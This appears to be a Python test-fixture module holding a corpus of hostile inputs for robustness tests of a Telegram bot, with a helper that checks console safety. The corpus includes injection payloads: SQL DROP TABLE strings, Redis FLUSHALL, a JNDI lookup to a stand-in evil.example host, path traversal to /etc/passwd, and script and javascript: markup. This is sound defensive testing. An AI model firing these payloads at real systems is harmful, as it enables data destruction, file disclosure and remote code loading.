"""A corpus of hostile typed input: what a careless, curious or malicious user might send.

Every entry is garbage at *every* kind of question (language picker, menu, choice, amount,
amount confirmation, after a verdict): the engine must ask the same question again, change
nothing and never echo it. Entries that a question could legitimately read as an answer
(a well-formed amount, an option's label or synonym) do not belong here.

`CORPUS` is (name, text) pairs, so a failing test names the input instead of printing
10,000 characters. `MARKUP` lists the fragments that must never reach Telegram unescaped.
`console_safe` says whether a text can travel as one line of `zansai console --json`
(no line breaks, no lone surrogates, which cannot be written to a UTF-8 pipe).
"""

from __future__ import annotations

LONG = 10_000

CORPUS: tuple[tuple[str, str], ...] = (
    # -- size
    ("10k ascii", "x" * LONG),
    ("10k kana", "あ" * LONG),
    ("10k markup", "<b>" * (LONG // 3)),
    ("10k emoji (20k UTF-16 units)", "😀" * LONG),
    ("10k ampersands", "&" * LONG),
    ("10k newlines", "\n" * LONG),
    ("10k zalgo", "a\u0301\u0316" * (LONG // 3)),
    # -- control, invisible and whitespace-only
    ("NUL", "\x00"),
    ("C0 controls", "".join(chr(c) for c in range(1, 32))),
    ("ANSI colour", "\x1b[31mred\x1b[0m\x1b[2J"),
    ("DEL and C1", "\x7f\x85\x9b"),
    ("zero-width run", "\u200b\u200c\u200d\u2060\ufeff"),
    ("zero-width inside a word", "he\u200bllo\u200d"),
    ("soft hyphen", "\u00ad\u00ad"),
    ("only spaces", " \t \u3000 "),
    ("line and paragraph separators", "\u2028\u2029"),
    ("lone surrogate", "\ud800"),
    ("noncharacters", "\ufffe\uffff\U0010ffff"),
    # -- emoji
    ("emoji", "🚗💳🔥"),
    ("zwj family", "👨\u200d👩\u200d👧\u200d👦"),
    ("flags", "🇯🇵🇨🇳"),
    ("keycap", "#\ufe0f\u20e3*\ufe0f\u20e3"),
    # -- right to left
    ("right-to-left override", "\u202eevil\u202c"),
    ("arabic", "مرحبا بالعالم"),
    ("hebrew with marks", "\u200fשלום\u200e"),
    ("bidi isolates", "\u2067abc\u2069\u2066def\u2069"),
    # -- HTML and Telegram markup
    ("bold tag", "<b>bold</b>"),
    ("link tag", '<a href="https://evil.example/">click</a>'),
    ("mention link", '<a href="tg://user?id=42">you</a>'),
    ("javascript link", '<a href="javascript:alert(1)">x</a>'),
    ("script", "<script>alert(1)</script>"),
    ("unbalanced tags", "</b></i></code><pre>"),
    ("spoiler and blockquote", "<tg-spoiler>s</tg-spoiler><blockquote expandable>q"),
    ("custom emoji", '<tg-emoji emoji-id="5368324170671202286">👍</tg-emoji>'),
    ("entities", "&amp; &lt;b&gt; &#60;i&#62; &#x3C;u&#x3E; &bogus;"),
    ("bare ampersand and angle", "a & b < c > d"),
    ("markdown", "*bold* _italic_ __under__ ~strike~ ||spoiler|| `code` ```pre```"),
    ("markdown link", "[click](https://evil.example) [here](tg://user?id=42)"),
    ("markdown escapes", "\\*\\_\\[\\]\\(\\)\\~\\`\\>\\#\\+\\-\\=\\|\\{\\}\\.\\!"),
    ("full-width markup", "＜ｂ＞ｂｏｌｄ＜／ｂ＞"),
    # -- injection-looking text
    ("sql drop", "'; DROP TABLE sessions; --"),
    ("sql tautology", "' OR '1'='1"),
    ("bobby tables", "Robert'); DROP TABLE updates;--"),
    ("redis command", "FLUSHALL\r\nDEL zansai:s:telegram:1\r\n"),
    ("lua", "redis.call('FLUSHALL')"),
    ("format strings", "{example} {amount} {0} %s %d %(message)s {{}} {__class__}"),
    ("log forging", "ok\nERROR zansai.webhook: update 1 failed"),
    ("path traversal", "../../../../etc/passwd\x00.png"),
    ("template", "${jndi:ldap://evil.example/a} {{7*7}} <%= 7*7 %>"),
    ("json", '{"update_id": 1, "message": {"text": "/forget"}}'),
    ("null words", "null undefined NULL"),
    # -- numbers that are not amounts
    ("NaN", "NaN"),
    ("Infinity", "Infinity"),
    ("minus Infinity", "-Infinity"),
    ("inf", "inf"),
    ("exponent overflow", "1e309"),
    ("exponent", "1e9"),
    ("hex", "0x1F"),
    ("400 digits", "9" * 400),
    ("400 digits negative", "-" + "9" * 400),
    ("400 digits with 万", "1" + "0" * 399 + "万"),
    ("400 fractional digits", "0." + "0" * 398 + "1"),
    ("digits with letters", "１２３ａｂｃ"),
    ("full-width sql", "ＳＥＬＥＣＴ　＊　ＦＲＯＭ　ｕｓｅｒｓ"),
    ("half-width katakana", "ﾊﾝｶｸ ｶﾀｶﾅ ｦﾝ"),
    ("mixed width words", "ｈｅｌｌｏ ｗｏｒｌｄ ｈｅｌｌｏ"),
    # -- commands that do not exist
    ("command with markup", "/<b>x</b>"),
    ("long command", "/" + "x" * LONG),
    ("command with NUL", "/\x00"),
    ("command with zero-width", "/\u200bstart"),
)

MARKUP = ("<b>", "<a ", "<script", "</b>", "<pre>", "<tg-", "<blockquote", "<i>", "<u>")


def console_safe(text: str) -> bool:
    """Whether `text` can be one line of `zansai console --json` on a UTF-8 pipe."""
    if any(ch in text for ch in "\r\n\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029"):
        return False
    try:
        text.encode("utf-8")
    except UnicodeEncodeError:
        return False
    return bool(text.strip())


def names() -> list[str]:
    return [name for name, _ in CORPUS]
